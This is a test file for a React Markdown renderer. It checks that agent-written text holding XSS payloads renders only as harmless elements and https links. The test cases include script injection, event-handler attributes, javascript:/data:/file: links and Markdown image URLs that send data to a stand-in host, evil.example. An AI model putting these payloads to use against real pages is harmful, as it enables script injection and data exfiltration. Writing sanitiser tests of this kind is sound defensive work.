import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { RichMarkdown } from "./rich-markdown.tsx";

/** Elements that plain prose, a list and a link come to; nothing that an agent writes may bring another. */
const HARMLESS = new Set(["div", "p", "a", "span", "em", "strong", "h1", "ul", "li", "br"]);

const htmlOf = (text: string): string => renderToStaticMarkup(<RichMarkdown text={text} />);
const tagsOf = (html: string): string[] => [...html.matchAll(/<([a-z][\w-]*)/gi)].map(([, name]) => name ?? "");
const attributesOf = (html: string): string[] =>
  [...html.matchAll(/\s([a-z-]+)="/gi)].map(([, name]) => name ?? "").filter((name) => name !== "class");

test.each([
  ["a script", "<script>fetch('https://evil.example')</script>"],
  ["an image with a handler", "<img src=x onerror=alert(1)>"],
  ["a drawing", "<svg onload=alert(1)><use href='https://evil.example/x.svg#a'/></svg>"],
  ["a frame", "text <iframe srcdoc='<script>alert(1)</script>'></iframe> text"],
  ["a style sheet", "<style>@import 'https://evil.example'</style>"],
  ["a form", "<form action=https://evil.example><input autofocus onfocus=alert(1)></form>"],
  ["an image of Markdown", "![a](https://evil.example/?q=secret)"],
  ["an image by reference", "![a][b]\n\n[b]: https://evil.example/x.png"],
  ["a link that runs", "[a](javascript:alert(1)) <javascript:alert(1)> [b](JaVaScRiPt:alert(1))"],
  ["a link of data", "[a](data:text/html,<script>alert(1)</script>)"],
  ["a link to a file", "[a](file:///etc/passwd) [b](vbscript:x)"],
])("S19 %s in an agent's words becomes text or a plain link, and nothing is fetched or run", (_, text) => {
  const html = htmlOf(text);
  expect(tagsOf(html).filter((name) => !HARMLESS.has(name))).toEqual([]);
  expect(attributesOf(html).filter((name) => !["href", "target", "rel"].includes(name))).toEqual([]);
  const addresses = [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href ?? "");
  expect(addresses.filter((href) => !href.startsWith("https:"))).toEqual([]);
});

test("a link of an agent leaves in a tab of its own and takes nothing with it", () => {
  expect(htmlOf("[a](https://example.org/)")).toContain(
    '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">a</a>',
  );
});
